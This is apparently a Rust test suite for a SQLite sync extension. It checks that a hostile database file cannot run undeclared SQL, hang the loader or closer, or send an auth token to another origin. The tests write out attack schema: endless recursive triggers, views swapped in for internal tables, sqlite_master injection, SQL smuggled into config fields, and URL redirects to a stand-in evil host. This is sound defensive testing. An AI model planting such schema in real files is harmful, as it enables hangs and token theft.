//! A hostile file: its schema and its rows were made to trick or to break whoever opens it. Nothing of it
//! is run that this connection did not declare, no secret leaves, and what is broken is an error.

use std::sync::atomic::{AtomicBool, Ordering};

use serde_json::json;
use support::hostile::{Base, CALLS, Canary, LENSES, TOKEN, Victim, our_tables, survives};
use support::{Canned, ask, load, refused, try_ask, wait_for};

/// A loop without end.
const FOREVER: &str = "SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c)";

// ------------------------------------------------------------------------------- SQL from the file

#[test]
fn a_default_of_the_file_is_never_run_as_a_statement() {
    let base = Base::furnished();
    let victim = Victim::of(&base);
    // The triggers did not know the column, so its default is compared with what the rows hold.
    victim
        .attack(
            "CREATE TABLE t2 (id TEXT PRIMARY KEY NOT NULL, title TEXT, x DEFAULT (canary()));
             INSERT INTO t2 SELECT id, title, 'v' FROM task;
             DROP TABLE task; ALTER TABLE t2 RENAME TO task;
             UPDATE _syncTable SET columns = '[\"id\",\"title\"]' WHERE name = 'task';
             INSERT INTO _syncChange (tbl, op, mask, pk) SELECT id, 2, 2, 'a' FROM _syncTable WHERE name = 'task';
             INSERT INTO _syncChange (tbl, op, mask, pk) SELECT id, 2, 0, 'a' FROM _syncTable WHERE name = 'task';",
        )
        .expect("attack");
    for kind in ["insert", "delete"] {
        let sql = format!(
            "CREATE TRIGGER _syncCapture_' || id || '_{kind} AFTER {kind} ON task BEGIN SELECT 1; END"
        );
        let plain = victim.world.plain();
        let sql = ask(
            &plain,
            &format!("SELECT '{sql}' FROM _syncTable WHERE name = 'task'"),
        );
        plain.execute_batch(&sql).expect("a trigger");
    }
    let connection = victim.world.plain();
    let canary = Canary::default();
    canary.sit_on(&connection);
    load(&connection);
    let pending = ask(
        &connection,
        "SELECT \"table\", changed FROM sync_pending WHERE key = 'a'",
    );
    assert!(pending.contains("\"x\""), "{pending}");
    assert_eq!(canary.sang(), 0);
    assert_eq!(victim.exercise(), Vec::<String>::new());
}

#[test]
fn a_view_instead_of_one_of_our_tables_is_refused_unread() {
    let base = Base::furnished();
    for table in our_tables(&base) {
        let victim = Victim::of(&base);
        victim
            .attack(&format!(
                "CREATE TABLE kept AS SELECT * FROM \"{table}\"; DROP TABLE \"{table}\";
                 CREATE VIEW \"{table}\" AS SELECT * FROM kept WHERE ({FOREVER}) > 0;"
            ))
            .expect(&table);
        // Loading looks for abandoned work.
        let connection = victim.world.open();
        for sql in [
            "SELECT sync_heartbeat()",
            "SELECT * FROM sync_scope",
            "SELECT * FROM sync_pending",
        ] {
            let text = refused(&connection, sql);
            assert!(
                text.contains(&format!("\"{table}\" is not a table")),
                "{sql}: {text}"
            );
        }
        assert_eq!(victim.exercise(), Vec::<String>::new(), "{table}");
    }
}

#[test]
fn loading_ends_even_if_a_trigger_of_the_file_does_not() {
    let base = Base::furnished();
    let victim = Victim::of(&base);
    victim
        .attack(&format!(
            "UPDATE _syncOperation SET state = 'syncing', ownerId = NULL, timestamp = 1;
             CREATE TRIGGER evil BEFORE UPDATE ON _syncOperation BEGIN {FOREVER}; END;
             CREATE TRIGGER evil2 BEFORE UPDATE ON _syncStatus BEGIN {FOREVER}; END;"
        ))
        .expect("attack");
    let connection = victim.world.open();
    assert_eq!(ask(&connection, "SELECT sync_version()"), "v0.1.0");
    assert!(connection.is_autocommit());
    // The work is still there, for a call that the program can interrupt.
    assert_ne!(
        ask(
            &connection,
            "SELECT count(*) FROM _syncOperation WHERE state = 'syncing'"
        ),
        "0"
    );
    let handle = connection.get_interrupt_handle();
    // More than once: the call may not have begun when the first one comes.
    let over = AtomicBool::new(false);
    let text = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::SeqCst) {
                std::thread::sleep(std::time::Duration::from_millis(100));
                handle.interrupt();
            }
        });
        let outcome = try_ask(&connection, "SELECT sync_heartbeat()");
        over.store(true, Ordering::SeqCst);
        outcome.expect_err("interrupted").to_string()
    });
    assert!(text.contains("interrupted"), "{text}");
}

#[test]
fn closing_ends_even_if_a_trigger_of_the_file_does_not() {
    let base = Base::furnished();
    let victim = Victim::of(&base);
    victim
        .attack(&format!(
            "CREATE TRIGGER evil BEFORE INSERT ON task BEGIN {FOREVER}; END;"
        ))
        .expect("attack");
    let connection = victim.world.open();
    base.server
        .changes(json!({"task": {"created": [{"id": "z"}]}}));
    let begun = ask(
        &connection,
        r#"SELECT sync_entities('all', 'api', '["task","list"]', '{"background":true}') ->> 'state'"#,
    );
    assert_eq!(begun, "syncing");
    base.server.clear();
    wait_for("the pull", || {
        ask(
            &connection,
            "SELECT count(*) FROM _syncRun WHERE state = 'running'",
        ) == "1"
    });
    connection
        .close()
        .map_err(|(_, error)| error)
        .expect("closed");
    assert_eq!(
        ask(
            &victim.world.plain(),
            "SELECT count(*) FROM task WHERE id = 'z'"
        ),
        "0"
    );
}

#[test]
fn a_table_named_like_the_close_hook_does_not_keep_it_from_working() {
    let base = Base::furnished();
    let victim = Victim::of(&base);
    victim
        .attack("CREATE TABLE syncscope_close_hook (unused)")
        .expect("attack");
    let connection = victim.world.open();
    ask(
        &connection,
        r#"SELECT sync_entities('x', 'host', '["local/t"]')"#,
    );
    connection
        .close()
        .map_err(|(_, error)| error)
        .expect("closed");
    let after = victim.world.open();
    let error = ask(
        &after,
        "SELECT error FROM sync_status WHERE instanceId = 'x'",
    );
    assert_eq!(error, "interrupted: closed");
}

/// A trigger or a view is the schema's SQL: what it does in the file is the author's affair, but it
/// reaches no function of ours and none that the program keeps for itself.
#[test]
fn triggers_and_views_of_the_file_reach_no_function_of_ours() {
    let base = Base::furnished();
    for call in CALLS.iter().copied().chain([
        "sync_secret('t', 'stolen', 'http://evil.example')",
        "canary()",
    ]) {
        let victim = Victim::of(&base);
        let name = call.split('(').next().unwrap_or(call);
        victim
            .attack(&format!(
                "CREATE VIEW v AS SELECT {call} AS x;
                 CREATE TABLE bait (x); INSERT INTO bait VALUES (1);
                 CREATE TRIGGER evil AFTER INSERT ON bait BEGIN SELECT {call}; END;
                 CREATE TRIGGER evil2 BEFORE INSERT ON _syncOwner BEGIN SELECT {call}; END;"
            ))
            .expect(call);
        let connection = victim.world.plain();
        let canary = Canary::default();
        canary.sit_on(&connection);
        load(&connection);
        for sql in [
            "SELECT * FROM v",
            "INSERT INTO bait VALUES (2)",
            "SELECT sync_heartbeat()",
        ] {
            let text = refused(&connection, sql);
            let said = format!("unsafe use of {name}()");
            assert!(text.contains(&said), "{sql}: {call}: {text}");
        }
        assert_eq!(canary.sang(), 0);
    }
}

/// Texts of the file that would be SQL if this connection had declared them.
#[test]
fn sql_kept_in_the_file_waits_for_being_declared() {
    let base = Base::furnished();
    let settings = |operation: &str| {
        format!(
            r#"UPDATE _syncOperation SET settings = '{{"operations":[{operation}]}}' WHERE entity = 'local/t'"#
        )
    };
    let sync = r#"sync_entities('all', 'api', '["task"]')"#;
    let apply = "sync_apply(3, '[]')";
    for (what, script, call) in [
        (
            "a resolver",
            "INSERT OR REPLACE INTO _syncResolver VALUES ('task', 'sql4', 'canary()')".to_owned(),
            sync,
        ),
        (
            "a resolver for all",
            "INSERT OR REPLACE INTO _syncResolver VALUES ('*', 'sql2', 'canary()')".into(),
            sync,
        ),
        (
            "a condition",
            r#"UPDATE _syncProvider SET config = json_set(config, '$.replacementWhere', json('{"task":"canary()"}')) WHERE id = 'api'"#.into(),
            sync,
        ),
        (
            "a statement",
            settings(r#"{"type":"execute-sql","statements":["SELECT canary()"]}"#),
            apply,
        ),
        (
            "a when",
            settings(r#"{"type":"upsert-merge","when":"canary()"}"#),
            apply,
        ),
        (
            "records",
            settings(r#"{"type":"upsert-merge","records":"SELECT canary()"}"#),
            apply,
        ),
    ] {
        let victim = Victim::of(&base);
        victim.attack(&script).expect(what);
        // Nobody on record holds the operation, so it is open for an hour.
        victim
            .attack(
                "UPDATE _syncOperation SET state = 'syncing', error = NULL, ownerId = NULL, \
                 timestamp = unixepoch() * 1000 WHERE entity = 'local/t'",
            )
            .expect(what);
        let connection = victim.world.plain();
        let canary = Canary::default();
        canary.sit_on(&connection);
        load(&connection);
        base.server.clear();
        let answer = try_ask(&connection, &format!("SELECT {call}"));
        let text = answer.unwrap_or_else(|error| error.to_string());
        assert!(
            text.contains("unless this connection declared it"),
            "{what}: {text}"
        );
        assert_eq!((canary.sang(), base.server.seen().len()), (0, 0), "{what}");
        assert_eq!(victim.exercise(), Vec::<String>::new(), "{what}");
    }
}

/// Names that our own statements use, taken by tables of the file.
#[test]
fn tables_that_hide_a_name_make_an_error_or_nothing() {
    let base = Base::furnished();
    let mut attacks = vec![(
        "statistics".to_owned(),
        "ANALYZE; DELETE FROM sqlite_stat1; INSERT INTO sqlite_stat1 VALUES \
         ('task', NULL, '-1 x'), ('_syncChange', NULL, '99999999999999999999')"
            .to_owned(),
    )];
    for name in [
        "pragma_table_xinfo",
        "pragma_table_info",
        "pragma_index_list",
        "pragma_index_xinfo",
        "pragma_user_version",
        "json_each",
        "sync_help",
        "syncscope_close_hook",
    ] {
        let script = format!("CREATE TABLE {name} (name, type, pk, cid)");
        attacks.push((name.to_owned(), script));
    }
    survives(&base, &attacks);
    // A table of that name hides the live one, but not from who asks for it by its full name.
    let victim = Victim::of(&base);
    victim
        .attack(
            "CREATE TABLE sync_scope (id, state); INSERT INTO sync_scope VALUES ('s', 'synced')",
        )
        .expect("attack");
    let connection = victim.world.open();
    assert_eq!(ask(&connection, "SELECT state FROM sync_scope"), "synced");
    assert_eq!(
        ask(&connection, "SELECT state FROM temp.sync_scope"),
        "interrupted"
    );
}

#[test]
fn a_file_can_not_make_tables_of_our_modules() {
    let base = Base::furnished();
    for module in LENSES.iter().chain(&["sync_help", "syncscope_close_hook"]) {
        let victim = Victim::of(&base);
        let connection = victim.world.open();
        let create = format!("CREATE VIRTUAL TABLE v USING {module}");
        let text = refused(&connection, &create);
        assert!(text.contains("no such module"), "{text}");
        drop(connection);
        victim
            .attack(&format!(
                "PRAGMA writable_schema = ON;
                 INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, '{create}');"
            ))
            .expect(module);
        let connection = victim.world.open();
        let text = refused(&connection, "SELECT * FROM v");
        assert!(
            text.contains("exists without CREATE VIRTUAL TABLE"),
            "{text}"
        );
        assert_eq!(victim.exercise(), Vec::<String>::new(), "{module}");
    }
}

// --------------------------------------------------------------------------------------- the secrets

/// Whatever a file's configuration says, a token goes to its own origin.
#[test]
fn no_configuration_of_a_file_sends_a_token_elsewhere() {
    let base = Base::furnished();
    let evil = Canned::start();
    let (home, bare) = (&base.server, evil.origin().replace("http://", ""));
    for (what, keys) in [
        ("the url", format!(r#""url":"{}""#, evil.url())),
        (
            "the pull's",
            format!(r#""url":"{}","pullUrl":"{}""#, home.url(), evil.url()),
        ),
        (
            "the push's",
            format!(r#""url":"{}","pushUrl":"{}""#, home.url(), evil.url()),
        ),
        (
            "a user name",
            format!(r#""url":"{}@{bare}""#, home.origin()),
        ),
        (
            "a backslash",
            format!(r#""url":"{}\\@{bare}""#, home.origin()),
        ),
        (
            "a template",
            format!(
                r#""url":"{}","pullUrl":"{{param:u}}","params":{{"u":"{}"}}"#,
                home.url(),
                evil.url()
            ),
        ),
        (
            "a template in the host",
            format!(r#""url":"http://{{param:u}}/sync","params":{{"u":"{bare}"}}"#),
        ),
        ("another port", format!(r#""url":"{}1/""#, home.origin())),
    ] {
        for secret in [r#""token":"t""#, r#""secretHeaders":{"X-Key":"t"}"#] {
            let victim = Victim::of(&base);
            let config = format!(r#"{{"kind":"watermelon","attempts":1,{secret},{keys}}}"#);
            victim
                .attack(&format!(
                    "UPDATE _syncProvider SET config = '{config}' WHERE id = 'api'"
                ))
                .expect(what);
            let connection = victim.world.open();
            ask(
                &connection,
                &format!("SELECT sync_secret('t', '{TOKEN}', '{}')", home.origin()),
            );
            let answer = try_ask(
                &connection,
                r#"SELECT sync_entities('all', 'api', '["task"]')"#,
            );
            let shown = answer.unwrap_or_else(|error| error.to_string());
            assert!(!shown.contains(TOKEN), "{what}: {shown}");
            assert_eq!(evil.seen().len(), 0, "{what}: {secret}: {shown}");
        }
    }
}

/// The declaration of a program that sets itself up at every start, turned around by a trigger.
#[test]
fn no_trigger_of_a_file_changes_where_a_token_goes() {
    let base = Base::furnished();
    let evil = Canned::start();
    let victim = Victim::of(&base);
    victim
        .attack(&format!(
            "CREATE TRIGGER evil AFTER UPDATE ON _syncProvider WHEN NEW.config NOT LIKE '%{0}%' BEGIN
               UPDATE _syncProvider SET config = json_set(config, '$.url', '{0}') WHERE id = NEW.id; END;",
            evil.url()
        ))
        .expect("attack");
    let connection = victim.world.open();
    let home = &base.server;
    ask(
        &connection,
        &format!("SELECT sync_secret('t', '{TOKEN}', '{}')", home.origin()),
    );
    let config =
        json!({"kind": "watermelon", "token": "t", "attempts": 1, "url": home.url() + "?v=2"});
    ask(
        &connection,
        &format!("SELECT sync_provider('api', '{config}', '{{\"keepCursor\":true}}')"),
    );
    let kept = ask(
        &connection,
        "SELECT config ->> 'url' FROM _syncProvider WHERE id = 'api'",
    );
    assert_eq!(kept, evil.url(), "the attack works");
    let class = ask(
        &connection,
        r#"SELECT sync_entities('all', 'api', '["task"]') ->> '$.error.class'"#,
    );
    assert_eq!((class.as_str(), evil.seen().len()), ("auth", 0));
}
